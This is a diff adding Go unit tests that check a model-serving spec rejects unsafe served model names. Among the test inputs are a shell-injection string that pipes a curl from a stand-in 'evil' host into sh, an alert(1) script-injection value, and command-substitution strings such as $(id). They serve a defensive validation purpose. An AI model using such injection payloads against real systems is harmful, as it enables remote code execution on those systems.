@@ -290,6 +290,10 @@ func TestValidateRules(t *testing.T) {
 		{"model missing", inferenceSpec, func(s *Spec) { s.Inference.Model = "" }, []string{"inference.model"}},
 		{"model bad", inferenceSpec, func(s *Spec) { s.Inference.Model = "a/b/c" }, []string{"inference.model"}},
 		{"served name bad", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "my model" }, []string{"inference.servedModelName"}},
+		{"served name runs code in a snippet", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "x';curl${IFS}evil|sh;'" }, []string{"inference.servedModelName"}},
+		{"served name quotes", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = `a"+alert(1)+"` }, []string{"inference.servedModelName"}},
+		{"served name reads as another team's", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "@ml/Qwen3-8B" }, []string{"inference.servedModelName"}},
+		{"served name too long", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = strings.Repeat("a", MaxServedModelName+1) }, []string{"inference.servedModelName"}},
 		{"replicas bad", inferenceSpec, func(s *Spec) { s.Inference.Replicas = -1 }, []string{"inference.replicas"}},
 		{"replicas too many", inferenceSpec, func(s *Spec) { s.Inference.Replicas = MaxReplicas + 1 }, []string{"inference.replicas"}},
 		{"total gpus too many", inferenceSpec, func(s *Spec) {
@@ -644,6 +648,20 @@ func TestInferenceTask(t *testing.T) {
 	} {
 		if got := c.in.Task(); got != c.want {
 			t.Errorf("%s: Task() = %q, want %q", name, got, c.want)
+		}
+	}
+}
+
+func TestValidServedModelName(t *testing.T) {
+	for name, want := range map[string]bool{
+		"Qwen/Qwen3-8B": true, "meta-llama/Llama-3.1-8B-Instruct": true, "gpt-4o": true, "llama3:8b": true,
+		"nvidia/parakeet-tdt-0.6b-v2": true, "a": true, strings.Repeat("a", MaxServedModelName): true,
+		"": false, "@ml/qwen": false, "-x": false, "/x": false, "my model": false, "x'y": false, `x"y`: false,
+		"x$(id)": false, "x`id`": false, "x;y": false, "x\\y": false, "x\ny": false, "é": false, "x<y": false,
+		strings.Repeat("a", MaxServedModelName+1): false,
+	} {
+		if got := ValidServedModelName(name); got != want {
+			t.Errorf("ValidServedModelName(%q) = %v, want %v", name, got, want)
 		}
 	}
 }
